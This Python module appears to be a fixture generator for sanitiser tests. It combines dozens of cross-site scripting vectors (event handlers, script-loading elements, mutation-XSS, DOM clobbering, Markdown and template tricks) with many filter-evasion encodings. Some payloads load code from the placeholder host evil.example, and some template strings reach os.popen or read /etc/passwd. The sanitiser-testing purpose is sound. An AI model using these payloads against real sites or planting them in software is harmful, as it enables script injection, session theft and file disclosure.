"""Hostile texts, generated: what is to run × how it is brought in × how it is written × what stands before it.

The classes are those that guides to filter evasion and the tests of sanitisers know: handlers of elements, elements
that load or run, addresses with programs in them, styles, documents in documents, HTML that changes its meaning when it
is parsed twice, names that hide a page's own objects, and what Markdown, its extensions, templates, YAML, JSON and XML
have of their own. Every payload that works calls `ran` with its number, or asks the host `evil.example` for it.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from itertools import product

HOST = "evil.example"
HANDLED = (
    ("img src=x", "onerror"),
    ("img src=/", "onload"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=/it/assets/newsroom.css", "onload"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("a href=x", "onclick"),
    ("button", "onpointerover"),
    ("p style='animation:x' class=x", "onanimationstart"),
    ("x tabindex=1 id=x", "onfocusin"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("form", "onsubmit"),
    ("math><x", "onmouseover"),
)
"""An element with what makes it act, and the event."""

LOADED = (
    "<script>{js}</script>",
    "<script src={url}></script>",
    "<script type=module>{js}</script>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href={url}></script></svg>",
    "<link rel=stylesheet href={url}>",
    "<link rel=prefetch href={url}>",
    "<style>@import '{url}';</style>",
    "<p style=background:url({url})>x</p>",
    "<p style=\"width:expression({js})\">x</p>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<frameset><frame src=javascript:{js}></frameset>",
    "<object data=javascript:{js}></object>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<embed src=data:image/svg+xml,%3Csvg%20onload%3D%22{js}%22%3E>",
    "<img src={url}>",
    "<img src=x srcset='{url} 1x'>",
    "<picture><source srcset={url}><img src=x></picture>",
    "<video poster={url}></video>",
    "<audio src={url}></audio>",
    "<video><track default src={url}></video>",
    "<body background={url}>",
    "<table background={url}><td>x</table>",
    "<input type=image src={url}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<base href={url}>",
    "<form action=javascript:{js}><input type=submit></form>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<form action={url}><input name=q></form>",
    "<svg><use href={url}#x></use></svg>",
    "<svg><image href={url} /></svg>",
    "<svg><a xlink:href=javascript:{js}><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={js}></set></svg>",
    "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>",
    "<math href=javascript:{js}>x</math>",
    "<a href=javascript:{js}>x</a>",
    "<a href=x ping={url}>x</a>",
    "<a href=data:text/html,%3Cscript%3E{js}%3C/script%3E>x</a>",
    "<area href=javascript:{js}>",
    "<template><img src=x onerror={js}></template>",
    "<portal src={url}></portal>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror={js}>\">",
    "<!--[if IE]><script>{js}</script><![endif]-->",
    "<!--><img src=x onerror={js}>-->",
    "<?xml version=1.0?><script>{js}</script>",
    "<?xml-stylesheet href=\"javascript:{js}\"?>",
    "<![CDATA[<script>{js}</script>]]>",
    "<!DOCTYPE x [<!ENTITY x \"<script>{js}</script>\">]>&x;",
    "<plaintext onmouseover={js}>",
    "<form id=content><input name=attributes></form>",
    "<a id=currentScript name=dataset href=javascript:{js}>x</a>",
    "<img name=documentElement><img name=querySelector>",
)  # fmt: skip
"""HTML that loads or runs something without a handler."""

MARKED = (
    "[x](javascript:{js})",
    "[x](<javascript:{js}>)",
    "[x]( javascript:{js} )",
    "[x](java&#115;cript:{js})",
    "[x](java&Tab;script:{js})",
    "[x](&#1;javascript:{js})",
    "[x](javascript&colon;{js})",
    "[x](vbscript:{js})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](view-source:javascript:{js})",
    "[x](blob:{url})",
    "[x](#x \"\" onmouseover={js} \"\")",
    "[x](https://a.example/\"onmouseover=\"{js})",
    "[x](https://a.example/ 'x\" onmouseover=\"{js}')",
    "[x](https://a.example/><img/src=x/onerror={js}>)",
    "![x]({url})",
    "![x](javascript:{js})",
    "![x](foto.jpg \"\\\" onerror={js} \\\"\")",
    "![x\" onerror=\"{js}](foto.jpg)",
    "![x](data:image/svg+xml,%3Csvg/onload={js}%3E)",
    "[![x]({url})](javascript:{js})",
    "<javascript:{js}>",
    "<https://a.example/\"onmouseover={js}>",
    "[x]: javascript:{js}\n\n[x]",
    "[x]: <javascript:{js}> \"x\"\n\n[x][x]",
    "![x][y]\n\n[y]: {url}",
    "x\n{{: onmouseover=\"{js}\" }}",
    "[x](#x){{: href=\"javascript:{js}\" }}",
    "```\" onmouseover={js}\nx\n```",
    "```html\n</code></pre><script>{js}</script>\n```",
    "`</code><script>{js}</script>`",
    "[^x]\n\n[^x]: <script>{js}</script>",
    "[^\"><img src=x onerror={js}>]",
    "*[x]: <script>{js}</script>\n\nx",
    "!!! note \"<img src=x onerror={js}>\"\n    x",
    "<div markdown=1>\n<script>{js}</script>\n</div>",
    "--8<-- \"/etc/passwd\"",
    "\\<script>{js}</script>",
    "\\\\<script>{js}</script>",
    "| x | <img src=x onerror={js}> |\n|---|---|\n| y | <script>{js}</script> |",
    "> <script>{js}</script>",
    "<scr\nipt>{js}</scr\nipt>",
    "{{{{ config.__class__.__init__.__globals__ }}}}",
    "{{% include '/etc/passwd' %}}",
    "{{{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}}}",
    "${{{js}}}",
    "\"}}</script><script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "<!-- /text --><script>{js}</script><!-- text -->",
    "</article><script>{js}</script>",
    "---\ntitle: x\n---\n<script>{js}</script>",
)  # fmt: skip
"""What Markdown, its extensions, templates and the files' own forms could make of a text."""


@dataclass(frozen=True)
class Payload:
    """A hostile text and the class that it belongs to."""

    text: str
    kind: str


_WORD = re.compile(r"\b(?!ran\b|evil\b|example\b)[a-z]{2,}")


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(sign)) if sign in "<>\"'():=" or sign == "j" else sign for sign in text)


ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "mixed case": lambda text: _WORD.sub(lambda word: word[0][0] + word[0][1:].swapcase(), text),
    "decimal entities": lambda text: _entities(text, "&#{};"),
    "padded entities without end": lambda text: _entities(text, "&#{:07}"),
    "hexadecimal entities": lambda text: _entities(text, "&#x{:X};"),
    "escaped twice": lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "per cent": lambda text: text.replace("<", "%3C").replace(">", "%3E").replace("javascript:", "%6aavascript:"),
    "tabulators within": lambda text: text.replace("script", "scr\tipt").replace(" ", "\t"),
    "line ends within": lambda text: text.replace("javascript:", "java\nscript:").replace(" ", "\n"),
    "slashes": lambda text: text.replace(" ", "/"),
    "controls within": lambda text: text.replace("javascript:", "\x01java\x00script:").replace("<", "<\x00"),
    "invisible characters": lambda text: text.replace("script", "scr\u200bipt").replace("<", "<\ufeff"),
    "turned direction": lambda text: "\u202e" + text.replace("javascript:", "java\u2066script:"),
    "wide characters": lambda text: text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e", ord('"'): "\uff02"}),
    "not closed": lambda text: text.removesuffix(">"),
    "opened twice": lambda text: text.replace("<", "<<", 1),
    "within itself": lambda text: text.replace("script", "scr<script>ipt").replace("onerror", "on<b>error"),
    "comments within": lambda text: text.replace("script", "scr<!-- -->ipt").replace("=", "/**/="),
    "seven bits": lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    "quoted otherwise": lambda text: text.replace("=x ", "=`x` ").replace('"', "'"),
}
BEFORE = ("", '">', "'>", "-->", "]]>", "</title>", "</script>", "</textarea></style>", '"}}', "`", "x ", "\\")
"""What ends the place in which a text may stand."""


def _payloads() -> tuple[Payload, ...]:
    handled = [f"<{element} {event}={{js}}>" for element, event in HANDLED]
    vectors = [("handler", one) for one in handled]
    vectors += [("element", one) for one in LOADED] + [("markup", one) for one in MARKED]
    found: dict[str, Payload] = {}
    for number, ((kind, vector), (name, encode)) in enumerate(product(vectors, ENCODINGS.items())):
        if name != "as it is" and (number + number // len(ENCODINGS)) % 4:
            continue  # a quarter of all, every way of writing with every kind
        filled = vector.format(js=f"ran({number})", url=f"//{HOST}/{number}")
        text = BEFORE[number // 3 % len(BEFORE)] + encode(filled) if name != "as it is" else filled
        found.setdefault(text, Payload(text, f"{kind}, {name}"))
    return tuple(found.values())


PAYLOADS = _payloads()
